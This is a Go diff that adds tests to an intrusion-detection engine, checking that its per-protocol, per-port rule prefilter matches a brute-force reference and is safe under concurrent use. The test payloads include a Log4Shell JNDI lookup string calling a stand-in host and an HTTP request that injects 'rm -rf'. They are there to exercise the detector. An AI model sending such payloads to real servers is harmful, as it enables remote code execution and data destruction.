@@ -2,6 +2,7 @@ package ids
 
 import (
 	"strings"
+	"sync"
 	"testing"
 	"testing/quick"
 )
@@ -187,4 +188,85 @@ func TestEngineDeterministicProperty(t *testing.T) {
 	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
 		t.Error(err)
 	}
+}
+
+// matchBruteForce is Match without the prefilter buckets: every rule's
+// header is checked per call. The reference the bucketed path must
+// reproduce exactly (same alerts, same order).
+func matchBruteForce(e *Engine, proto string, port uint16, payload []byte) []Alert {
+	var alerts []Alert
+	for _, r := range e.Rules() {
+		if r.Proto != "any" && r.Proto != "ip" && r.Proto != proto {
+			continue
+		}
+		if !r.Ports.Contains(port) {
+			continue
+		}
+		if matchContents(r.Contents, payload) {
+			alerts = append(alerts, Alert{SID: r.SID, Msg: r.Msg, Classtype: r.Classtype})
+		}
+	}
+	return alerts
+}
+
+// TestEnginePrefilterEquivalence checks the per-(proto, port) rule
+// buckets never change Match results across the ports and protocols
+// the study exercises, plus boundary ports.
+func TestEnginePrefilterEquivalence(t *testing.T) {
+	e := DefaultEngine()
+	payloads := [][]byte{
+		nil,
+		[]byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\n\r\n"),
+		[]byte("GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1\r\n\r\n"),
+		[]byte("\x16\x03\x01\x00\x04\x01"),
+		[]byte("SSH-2.0-OpenSSH_8.9"),
+		[]byte("random junk payload with no structure at all"),
+	}
+	for _, proto := range []string{"tcp", "udp", "icmp"} {
+		for _, port := range []uint16{1, 22, 23, 80, 445, 2323, 8080, 17128, 65535} {
+			for _, payload := range payloads {
+				got := e.Match(proto, port, payload)
+				want := matchBruteForce(e, proto, port, payload)
+				if len(got) != len(want) {
+					t.Fatalf("Match(%s, %d): %d alerts, want %d", proto, port, len(got), len(want))
+				}
+				for i := range want {
+					if got[i] != want[i] {
+						t.Fatalf("Match(%s, %d) alert %d = %+v, want %+v", proto, port, i, got[i], want[i])
+					}
+				}
+				gotMal := e.Malicious(proto, port, payload)
+				wantMal := false
+				for _, a := range want {
+					if MaliciousClasstypes[a.Classtype] {
+						wantMal = true
+					}
+				}
+				if gotMal != wantMal {
+					t.Fatalf("Malicious(%s, %d) = %v, want %v", proto, port, gotMal, wantMal)
+				}
+			}
+		}
+	}
+}
+
+// TestEngineConcurrentMatch hammers the lazily-built prefilter buckets
+// from many goroutines on overlapping (proto, port) pairs; run with
+// -race to check the sync.Map publication.
+func TestEngineConcurrentMatch(t *testing.T) {
+	e := DefaultEngine()
+	payload := []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\n\r\n")
+	var wg sync.WaitGroup
+	for w := 0; w < 8; w++ {
+		wg.Add(1)
+		go func(w int) {
+			defer wg.Done()
+			for i := 0; i < 200; i++ {
+				port := uint16(22 + (i+w)%5)
+				e.Match("tcp", port, payload)
+				e.Malicious("tcp", port, payload)
+			}
+		}(w)
+	}
+	wg.Wait()
 }
